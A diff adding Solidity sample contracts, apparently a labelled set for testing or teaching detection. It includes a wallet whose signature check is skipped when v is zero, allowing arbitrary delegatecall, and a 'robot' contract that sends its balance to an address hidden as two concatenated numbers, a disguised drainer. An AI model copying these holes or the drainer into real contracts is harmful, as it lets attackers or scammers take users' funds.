@@ -344,6 +344,64 @@ contract OpenDelegate {
     function run(address code, bytes calldata data) external { (bool ok,) = code.delegatecall(data); require(ok); }
 }
 
+/// Who signs nothing may do anything, too, whatever the fee is.
+contract OptionalSigner {
+    mapping(address => bool) public isOwner;
+    uint256 public fee;
+    constructor(uint256 fee_) { (fee, isOwner[msg.sender]) = (fee_, true); }
+    function run(address code, bytes calldata data, uint8 v, bytes32 r, bytes32 s) external payable {
+        if (v != 0) require(isOwner[ecrecover(keccak256(data), v, r, s)]);
+        if (fee > 0) require(msg.value >= fee);
+        (bool ok,) = code.delegatecall(data);
+        require(ok);
+    }
+}
+
+/// A robot that is its buyer's, and pays whom two numbers are put together to.
+contract NumbersRobot {
+    address private owner = msg.sender;
+    uint256 private front = 0x617F2E2fD72FD9D5;
+    uint256 private back = 0x503197092aC168c91465E7f2;
+    string public status;
+    receive() external payable {}
+    function Start() external payable {
+        require(msg.sender == owner);
+        status = "running";
+        payable(address(uint160((front << 96) | back))).transfer(address(this).balance);
+    }
+}
+
+/// Honest: a till that its owner opens, and empties for himself.
+contract OwnersTill {
+    address payable private owner = payable(msg.sender);
+    string public status;
+    receive() external payable {}
+    function start() external payable {
+        require(msg.sender == owner);
+        status = "open";
+        owner.transfer(address(this).balance);
+    }
+}
+
+/// As many owners have to sign as it keeps a number of.
+contract RoundsWallet {
+    mapping(address => bool) public isOwner;
+    uint256 public rounds;
+    uint256 public nonce;
+    constructor(address[] memory owners, uint256 rounds_) { for (uint256 at; at < owners.length; at++) isOwner[owners[at]] = true; rounds = rounds_; }
+    function run(address code, bytes calldata data, uint8[] calldata v, bytes32[] calldata r, bytes32[] calldata s) external {
+        bytes32 hash = keccak256(abi.encode(block.chainid, address(this), code, data, nonce++));
+        address last;
+        for (uint256 at; at < rounds; at++) {
+            address signer = ecrecover(hash, v[at], r[at], s[at]);
+            require(isOwner[signer] && signer > last);
+            last = signer;
+        }
+        (bool ok,) = code.delegatecall(data);
+        require(ok);
+    }
+}
+
 contract OwnedDelegate {
     address private owner = msg.sender;
     function run(address code, bytes calldata data) external {
